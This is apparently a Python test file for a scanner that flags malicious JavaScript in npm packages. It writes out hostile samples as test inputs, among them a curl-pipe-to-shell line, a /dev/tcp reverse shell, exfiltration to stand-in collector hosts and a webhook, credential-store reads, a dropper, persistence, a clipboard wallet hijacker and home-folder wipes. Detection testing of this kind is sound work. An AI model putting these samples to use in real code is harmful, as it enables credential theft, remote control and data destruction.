"""Each code rule on realistic positive samples and on the legitimate code that looks like
them: exact rule ids, lines and phases."""

from __future__ import annotations

import base64
from textwrap import dedent

from stockade.analysis.javascript import JavaScriptAnalyzer
from stockade.analysis.model import Confidence, Finding, Phase, Severity

from .helpers import hits, rules, scan, threats

INSTALL = Phase.INSTALL
IMPORT = Phase.IMPORT
RUNTIME = Phase.RUNTIME


def js(code: str) -> str:
    return dedent(code).lstrip("\n")


def run(code: str, *, phase: Phase = RUNTIME, path: str = "index.js") -> list[Finding]:
    """Findings for one file whose module-level code runs in ``phase``."""
    install = [path] if phase is INSTALL else []
    imports = [path] if phase is IMPORT else []
    return scan({path: js(code)}, install=install, imports=imports)


# ---------------------------------------------------------------- processes


def test_child_process_is_a_capability() -> None:
    findings = run(
        """
        const { spawn } = require("node:child_process");
        function build() {
          return spawn("git", ["status"], { stdio: "inherit" });
        }
        module.exports = build;
        """,
        phase=IMPORT,
    )
    assert hits(findings, "js-child-process") == [(3, RUNTIME)]
    assert threats(findings) == []


def test_regexp_exec_is_not_child_process() -> None:
    findings = run(
        """
        const re = /(\\d+)/g;
        function numbers(s) { const m = re.exec(s); return m && m[1]; }
        const exec = (cmd) => console.log(cmd);
        exec("not a process");
        """
    )
    assert findings == []


def test_detached_process_at_runtime_is_a_capability() -> None:
    findings = run(
        """
        const cp = require("child_process");
        exports.check = function () {
          cp.spawn(process.execPath, ["check.js"], { detached: true, stdio: "ignore" }).unref();
        };
        """,
        phase=IMPORT,
    )
    assert hits(findings, "js-detached-process") == [(3, RUNTIME)]
    assert hits(findings, "js-install-detached") == []


def test_detached_process_during_install_is_a_threat() -> None:
    findings = run(
        """
        const { spawn } = require("child_process");
        const opts = { detached: true, stdio: "ignore" };
        function start() {
          spawn("/dev/shm/.svc", [], opts).unref();
        }
        start();
        """,
        phase=INSTALL,
        path="postinstall.js",
    )
    assert hits(findings, "js-install-detached") == [(4, INSTALL)]


def test_ignored_output_and_unref_count_as_detached() -> None:
    findings = run(
        """
        const { spawn } = require("child_process");
        const child = spawn("node", ["daemon.js"], { stdio: "ignore" });
        child.unref();
        """,
        phase=INSTALL,
    )
    assert hits(findings, "js-install-detached") == [(2, INSTALL)]


def test_attached_process_is_not_detached() -> None:
    findings = run(
        """
        const { spawn } = require("child_process");
        spawn("node-gyp", ["rebuild"], { stdio: "inherit", shell: true });
        """,
        phase=INSTALL,
    )
    assert rules(findings) == {"js-child-process"}


def test_spawn_sync_binding_is_a_threat_other_bindings_are_not() -> None:
    findings = run('const s = process.binding("spawn_sync");\nprocess.binding("natives");\n')
    assert hits(findings, "js-process-binding") == [(1, RUNTIME)]


def test_command_strings_are_read_as_shell() -> None:
    findings = run(
        """
        const { execSync } = require("child_process");
        execSync("curl -s http://x.example/i.sh | sh");
        execSync("bash -i >& /dev/tcp/45.61.136.22/9001 0>&1");
        execSync("git describe --tags");
        """,
        phase=INSTALL,
    )
    assert hits(findings, "js-shell-download-exec") == [(2, INSTALL)]
    assert hits(findings, "js-shell-reverse-shell") == [(3, INSTALL)]
    assert len(hits(findings, "js-child-process")) == 3


def test_spawned_command_decoded_at_run_time() -> None:
    findings = run(
        """
        const cp = require("child_process");
        const cmd = Buffer.from("ZWNobyBpbmVydA==", "base64").toString();
        cp.exec(cmd);
        cp.exec(process.argv[2]);
        """
    )
    assert hits(findings, "js-shell-encoded") == [(3, RUNTIME)]


# ---------------------------------------------------------------- dynamic code


def test_eval_of_constants_is_quiet() -> None:
    findings = run(
        """
        const g = Function("return this")();
        eval("1 + 1");
        new Function("a", "b", "return a + b");
        """
    )
    assert findings == []


def test_eval_of_computed_code_is_a_capability() -> None:
    findings = run(
        """
        function template(source, variable) {
          return Function(variable, "return " + source);
        }
        """
    )
    assert hits(findings, "js-dynamic-code") == [(2, RUNTIME)]
    assert threats(findings) == []


def test_eval_of_decoded_data_is_a_threat() -> None:
    findings = run(
        """
        const payload = "Y29uc29sZS5sb2coMSk=";
        eval(Buffer.from(payload, "base64").toString());
        const vm = require("vm");
        vm.runInThisContext(atob(payload));
        (function () {
          new Function(require("zlib").inflateSync(Buffer.from(payload, "hex")).toString())();
        })();
        setTimeout(decodeURIComponent(escape(atob(payload))), 10);
        """,
        phase=IMPORT,
    )
    assert hits(findings, "js-eval-decoded") == [(2, IMPORT), (4, IMPORT), (6, IMPORT), (8, IMPORT)]


def test_decoding_without_running_is_quiet() -> None:
    findings = run(
        """
        function readToken(jwt) {
          const body = Buffer.from(jwt.split(".")[1], "base64").toString();
          return JSON.parse(body);
        }
        module.exports = readToken;
        """
    )
    assert findings == []


def test_decipher_then_compile_is_a_threat() -> None:
    findings = run(
        """
        const crypto = require("crypto");
        const data = require("./data.json");
        const d = crypto.createDecipher("aes256", process.env.npm_package_description);
        let code = d.update(data.blob, "hex", "utf8");
        code += d.final("utf8");
        const m = new module.constructor();
        m.paths = module.paths;
        m._compile(code, "");
        """,
        phase=IMPORT,
    )
    assert hits(findings, "js-eval-decoded") == [(8, IMPORT)]


def test_compiling_a_file_read_from_disk_is_a_capability() -> None:
    findings = run(
        """
        const fs = require("fs");
        const Module = require("module");
        function load(file) {
          const m = new Module(file);
          m._compile(fs.readFileSync(file, "utf8"), file);
          return m.exports;
        }
        """
    )
    assert rules(findings) == {"js-dynamic-code"}


def test_eval_of_downloaded_code_is_a_threat() -> None:
    findings = run(
        """
        const https = require("https");
        https.get("https://cdn.example.com/x.js", (res) => {
          let body = "";
          res.on("data", (c) => (body += c));
          res.on("end", () => eval(body));
        });
        async function later(url) {
          const text = await (await fetch(url)).text();
          return new Function(text)();
        }
        """,
        phase=IMPORT,
    )
    assert hits(findings, "js-eval-remote") == [(5, IMPORT), (9, RUNTIME)]


def test_parsing_downloaded_json_is_quiet() -> None:
    findings = run(
        """
        const https = require("https");
        function latest(url, done) {
          https.get(url, (res) => {
            let body = "";
            res.on("data", (c) => (body += c));
            res.on("end", () => done(JSON.parse(body).version));
          });
        }
        """
    )
    assert rules(findings) == {"js-network"}


def test_command_received_over_the_network_is_a_threat() -> None:
    findings = run(
        """
        const net = require("net");
        const { exec } = require("child_process");
        const sock = net.connect(4444, "c2.example.net");
        sock.on("data", (cmd) => exec(cmd.toString()));
        """,
        phase=IMPORT,
    )
    assert hits(findings, "js-eval-remote") == [(4, IMPORT)]


# ---------------------------------------------------------------- environment and exfiltration


def test_serialising_the_environment_is_a_capability() -> None:
    findings = run(
        """
        function debug() {
          console.log(JSON.stringify(process.env, null, 2));
          for (const k in process.env) console.log(k);
        }
        """
    )
    assert hits(findings, "js-env-collect") == [(2, RUNTIME), (3, RUNTIME)]


def test_reading_one_variable_or_passing_env_to_a_child_is_quiet() -> None:
    findings = run(
        """
        const env = process.env.NODE_ENV || "development";
        const { API_TOKEN } = process.env;
        const options = { env: { ...process.env, FORCE_COLOR: "1" } };
        module.exports = { env, API_TOKEN, options };
        """
    )
    assert findings == []


def test_network_calls_are_capabilities() -> None:
    findings = run(
        """
        import axios from "axios";
        export async function getUser(id) {
          return (await axios.get(`https://api.example.com/users/${id}`)).data;
        }
        """
    )
    assert hits(findings, "js-network") == [(3, RUNTIME)]


def test_web_framework_routes_are_not_network_calls() -> None:
    findings = run(
        """
        const express = require("express");
        const app = express();
        app.get("/", (req, res) => res.send("ok"));
        const map = new Map();
        map.get("x");
        """
    )
    assert findings == []


def test_requests_to_exfiltration_endpoints_are_threats() -> None:
    findings = run(
        """
        const https = require("https");
        https.request({ hostname: "45.61.136.22", path: "/c", method: "POST" });
        fetch("https://discord.com/api/webhooks/000000/xxxx", { method: "POST" });
        const host = "abc123.burpcollaborator.net";
        require("dns").lookup(host, () => {});
        """,
        phase=IMPORT,
    )
    assert hits(findings, "js-exfil-endpoint") == [(2, IMPORT), (3, IMPORT), (5, IMPORT)]


def test_ordinary_endpoints_are_not_exfiltration() -> None:
    findings = run(
        """
        // Example: https://discord.com/api/webhooks/123456/token-from-your-server
        fetch("https://discord.com/api/v10/users/@me");
        require("dns").resolve4("8.8.8.8", () => {});
        const docs = "https://discord.com/api/webhooks/{id}/{token}";
        """
    )
    assert hits(findings, "js-exfil-endpoint") == []


def test_embedded_webhook_url_is_a_threat_of_medium_confidence() -> None:
    findings = run('const HOOK = "https://discord.com/api/webhooks/000000/xxxx";\n')
    assert hits(findings, "js-exfil-endpoint") == [(1, RUNTIME)]
    assert findings[0].confidence is Confidence.MEDIUM


def test_environment_sent_over_the_network_is_a_threat() -> None:
    findings = run(
        """
        const axios = require("axios");
        function report() {
          const data = { env: process.env };
          return axios.post("https://collect.example.net/e", data);
        }
        """
    )
    assert hits(findings, "js-exfil-data") == [(4, RUNTIME)]
    spread = run('fetch("https://x.example/c", { body: JSON.stringify({ ...process.env }) });\n')
    assert hits(spread, "js-exfil-data") == [(1, RUNTIME)]


def test_fingerprint_sent_during_install_is_a_threat() -> None:
    findings = run(
        """
        const os = require("os");
        const https = require("https");
        const info = {};
        info.host = os.hostname();
        info.user = os.userInfo().username;
        info.path = __dirname;
        send(JSON.stringify(info));
        function send(body) {
          const req = https.request({ hostname: "t.example.com", method: "POST" });
          req.end(body);
        }
        """,
        phase=INSTALL,
    )
    assert hits(findings, "js-exfil-data") == [(10, INSTALL)]


def test_telemetry_with_platform_or_a_hashed_host_is_quiet() -> None:
    findings = run(
        """
        const os = require("os");
        const crypto = require("crypto");
        const id = crypto
          .createHash("sha256")
          .update(os.hostname() + os.userInfo().username)
          .digest("hex");
        const platform = os.platform();
        fetch("https://telemetry.example.dev/e", {
          method: "POST",
          body: JSON.stringify({ id, platform, arch: os.arch(), node: process.version }),
        });
        """,
        phase=INSTALL,
    )
    assert rules(findings) == {"js-network"}


def test_one_host_detail_at_runtime_is_quiet() -> None:
    findings = run(
        """
        const os = require("os");
        exports.capture = (err) =>
          fetch("https://errors.example.io/store", {
            method: "POST",
            body: JSON.stringify({ message: err.message, server_name: os.hostname() }),
          });
        """,
        phase=IMPORT,
    )
    assert rules(findings) == {"js-network"}


def test_hex_encoded_dns_lookups_are_a_threat() -> None:
    findings = run(
        """
        const dns = require("dns");
        const os = require("os");
        const label = Buffer.from(os.hostname()).toString("hex");
        dns.resolve4(`${label}.x7.exfil-collector.net`, () => {});
        """,
        phase=INSTALL,
    )
    assert hits(findings, "js-dns-exfil") == [(4, INSTALL)]


def test_looking_up_a_host_name_is_quiet() -> None:
    findings = run(
        """
        const dns = require("dns");
        const os = require("os");
        exports.ip = () => dns.promises.lookup(os.hostname());
        exports.resolve = (name) => dns.promises.resolve4(name + ".local");
        """
    )
    assert rules(findings) == {"js-network"}


# ---------------------------------------------------------------- credentials


def test_reading_cloud_credentials_at_runtime_is_a_capability() -> None:
    findings = run(
        """
        const fs = require("fs");
        const path = require("path");
        const os = require("os");
        function load() {
          return fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"), "utf8");
        }
        """
    )
    assert hits(findings, "js-credential-read") == [(5, RUNTIME)]
    assert threats(findings) == []


def test_reading_package_files_is_quiet() -> None:
    findings = run(
        """
        const fs = require("fs");
        const path = require("path");
        const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, "package.json"), "utf8"));
        const rc = fs.readFileSync(".eslintrc.json", "utf8");
        """
    )
    assert findings == []


def test_reading_browser_and_discord_stores_is_theft() -> None:
    findings = run(
        """
        const fs = require("fs");
        const path = require("path");
        const local = process.env.LOCALAPPDATA;
        function steal() {
          const db = fs.readFileSync(path.join(local, "Chrome", "User Data", "Login Data"));
          const ldb = fs.readdirSync(local + "\\\\Discord\\\\Local Storage\\\\leveldb");
          return [db, ldb];
        }
        """
    )
    assert hits(findings, "js-credential-theft") == [(5, RUNTIME), (6, RUNTIME)]


def test_reading_npmrc_during_install_is_theft() -> None:
    findings = run(
        """
        const fs = require("fs");
        const token = fs.readFileSync(require("os").homedir() + "/.npmrc", "utf8");
        """,
        phase=INSTALL,
    )
    assert hits(findings, "js-credential-theft") == [(2, INSTALL)]


def test_reading_many_credential_stores_is_theft() -> None:
    findings = run(
        """
        const fs = require("fs");
        const home = require("os").homedir();
        exports.backup = () => [
          fs.readFileSync(`${home}/.aws/credentials`),
          fs.readFileSync(`${home}/.kube/config`),
          fs.readFileSync(`${home}/.docker/config.json`),
        ];
        """
    )
    assert hits(findings, "js-credential-theft") == [(4, RUNTIME)]
    assert len(hits(findings, "js-credential-read")) == 3


# ---------------------------------------------------------------- obfuscation


def test_javascript_obfuscator_output_is_a_threat() -> None:
    ids = ";".join(f"var _0x{n:04x}=_0x1a2b[{n}]" for n in range(12))
    rotate = "(function(_0x3c4d,_0x5e6f){_0x3c4d['push'](_0x3c4d['shift']())}(_0x1a2b,0x1));"
    findings = run(f"var _0x1a2b=['a','b'];{rotate}\n{ids};\n")
    assert hits(findings, "js-obfuscator") == [(1, RUNTIME)]
    assert "rotated string array" in findings[0].message


def test_escaped_letters_flood_is_obfuscation_control_escapes_are_not() -> None:
    hidden = "".join(f"\\x{ord(c):02x}" for c in "require('child_process').exec('id')" * 3)
    assert rules(run(f'var s = "{hidden}";\n')) == {"js-obfuscator"}
    colours = 'const RED = "\\x1b[31m", RESET = "\\x1b[0m", NUL = "\\x00";\n' * 30
    assert run(colours) == []


def test_packers_are_threats_minified_code_is_not() -> None:
    packed = "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))\n"
    assert hits(run(packed), "js-packed") == [(1, RUNTIME)]
    jsfuck = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]" * 4
    assert hits(run(jsfuck + "\n"), "js-packed") == [(1, RUNTIME)]
    minified = "var a=!0,b=!1,c=[],d=!![];function f(){return[]+!a}\n"
    assert run(minified) == []


def test_huge_lines_outside_build_folders_are_a_capability() -> None:
    line = "var x=" + "+".join(str(n) for n in range(2000)) + ";\n"
    assert hits(run(line, path="index.js"), "js-minified") == [(1, RUNTIME)]
    assert run(line, path="dist/index.js") == []
    assert run(line, path="lib/app.min.js") == []


def test_long_base64_literals_are_a_capability() -> None:
    blob = base64.b64encode(bytes((i * 73 + 11) % 256 for i in range(240))).decode()
    assert hits(run(f'const bin = "{blob}";\n'), "js-encoded-blob") == [(1, RUNTIME)]
    prose = "This module formats dates. " * 12
    icon = "data:image/png;base64," + blob
    assert run(f'const a = "{prose}";\nconst b = "{icon}";\n') == []


# ---------------------------------------------------------------- files


INSTALLER = """
const fs = require("fs");
const https = require("https");
const { execFileSync, spawn } = require("child_process");
const url = URL_EXPR;
const bin = BIN_EXPR;
https.get(url, (res) => {
  const out = fs.createWriteStream(bin);
  res.pipe(out);
  out.on("finish", () => {
    fs.chmodSync(bin, 0o755);
    RUN;
  });
});
"""


def installer(url: str, bin_path: str, run_line: str) -> str:
    return INSTALLER.replace("URL_EXPR", url).replace("BIN_EXPR", bin_path).replace("RUN", run_line)


def test_native_tool_installer_is_a_capability() -> None:
    code = installer(
        '(process.env.npm_config_registry || "https://npm.test/") + "tool-linux-x64.tgz"',
        'require("path").join(__dirname, "bin", "tool")',
        'execFileSync(bin, ["--version"])',
    )
    findings = run(code, phase=INSTALL, path="install.js")
    assert hits(findings, "js-binary-download") == [(10, INSTALL)]
    assert threats(findings) == []


def test_dropper_from_a_raw_ip_run_detached_is_a_threat() -> None:
    code = installer(
        '"http://45.61.136.22/update"',
        'require("path").join(require("os").tmpdir(), "update.exe")',
        'spawn(bin, [], { detached: true, stdio: "ignore" }).unref()',
    )
    findings = run(code, phase=INSTALL, path="install.js")
    assert hits(findings, "js-dropper") == [(10, INSTALL)]
    assert hits(findings, "js-binary-download") == []


def test_downloading_a_file_without_running_it_is_not_a_dropper() -> None:
    code = installer('"https://cdn.example.com/data.json"', '"data.json"', "console.log('saved')")
    code = code.replace("fs.chmodSync(bin, 0o755);", "")
    assert rules(run(code)) == {"js-network"}


def test_writing_authorized_keys_is_persistence() -> None:
    findings = run(
        """
        const fs = require("fs");
        const os = require("os");
        exports.init = () =>
          fs.appendFileSync(`${os.homedir()}/.ssh/authorized_keys`, "ssh-ed25519 AAAA x\\n");
        """
    )
    assert hits(findings, "js-persistence") == [(4, RUNTIME)]


def test_shell_rc_written_at_install_is_persistence_but_not_by_a_completion_command() -> None:
    code = """
        const fs = require("fs");
        const rc = require("path").join(require("os").homedir(), ".bashrc");
        function installCompletion() {
          fs.appendFileSync(rc, "\\nsource ~/.tool-completion.sh\\n");
        }
        INVOKE
        """
    at_install = run(code.replace("INVOKE", "installCompletion();"), phase=INSTALL)
    assert hits(at_install, "js-persistence") == [(4, INSTALL)]
    on_request = run(code.replace("INVOKE", "module.exports = installCompletion;"), phase=IMPORT)
    assert on_request == []


def test_scheduled_tasks_and_run_keys_are_persistence() -> None:
    findings = run(
        """
        const { execSync } = require("child_process");
        execSync('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v s');
        execSync("schtasks /create /sc minute /tn svc /tr svc.exe");
        """
    )
    assert hits(findings, "js-persistence") == [(2, RUNTIME), (3, RUNTIME)]


def test_clipboard_writer_matching_wallets_is_a_hijacker() -> None:
    findings = run(
        """
        const clipboardy = require("clipboardy");
        const re = /^0x[a-fA-F0-9]{40}$/;
        setInterval(() => {
          if (re.test(clipboardy.readSync())) clipboardy.writeSync("0x" + "0".repeat(40));
        }, 300);
        """,
        phase=IMPORT,
    )
    assert hits(findings, "js-clipboard-hijack") == [(4, IMPORT)]


def test_copying_output_to_the_clipboard_is_quiet() -> None:
    findings = run(
        """
        const clipboardy = require("clipboardy");
        exports.copy = (text) => clipboardy.writeSync(text);
        """
    )
    assert findings == []


def test_wiping_the_home_folder_is_destructive() -> None:
    findings = run(
        """
        const fs = require("fs");
        const os = require("os");
        fs.rmSync(os.homedir(), { recursive: true, force: true });
        """
    )
    assert hits(findings, "js-destructive") == [(3, RUNTIME)]


def test_cleaning_a_build_folder_is_quiet() -> None:
    findings = run(
        """
        const fs = require("fs");
        const path = require("path");
        fs.rmSync(path.join(__dirname, "build"), { recursive: true, force: true });
        require("rimraf").sync("dist");
        """
    )
    assert findings == []


def test_country_gated_file_writes_are_destructive() -> None:
    findings = run(
        """
        const fs = require("fs");
        fetch("https://ipapi.co/json/").then((r) => r.json()).then((geo) => {
          if (geo.country_code === "RU") fs.writeFileSync("index.js", "");
        });
        """
    )
    assert hits(findings, "js-destructive") == [(3, RUNTIME)]


def test_mining_strings_are_threats_only_in_strings() -> None:
    findings = run('const pool = "stratum+tcp://pool.example.org:3333";\n// xmrig docs\n')
    assert hits(findings, "js-miner") == [(1, RUNTIME)]
    assert run("// supports xmrig and randomx benchmarks\nconst algo = 'randomx';\n") == []


# ---------------------------------------------------------------- limits


def test_large_files_are_cut_with_a_note() -> None:
    code = "const x = 1;\n" * 200 + 'eval(Buffer.from("eA==", "base64").toString());\n'
    analyzer = JavaScriptAnalyzer(max_source_bytes=1000)
    findings = scan({"index.js": code}, analyzer=analyzer)
    assert rules(findings) == {"js-analysis-limit"}
    assert findings[0].severity is Severity.INFO
    assert hits(scan({"index.js": code}), "js-eval-decoded") == [(201, RUNTIME)]


def test_binary_files_named_js_are_noted() -> None:
    findings = scan({"index.js": b"\x00\x01binary"})
    assert rules(findings) == {"js-analysis-limit"}


def test_package_budget_leaves_later_files_to_the_text_checks() -> None:
    eval_file = 'eval(atob("ZXZhbCgxKQ=="));\n' + "// padding\n" * 100
    analyzer = JavaScriptAnalyzer(max_package_bytes=500)
    findings = scan(
        {"install.js": eval_file, "z/late.js": eval_file}, install=["install.js"], analyzer=analyzer
    )
    assert hits(findings, "js-eval-decoded") == [(1, INSTALL)]
    notes = [f for f in findings if f.rule == "js-analysis-limit"]
    assert [(n.path, n.line) for n in notes] == [("", None)]
    assert "1 files" in notes[0].message
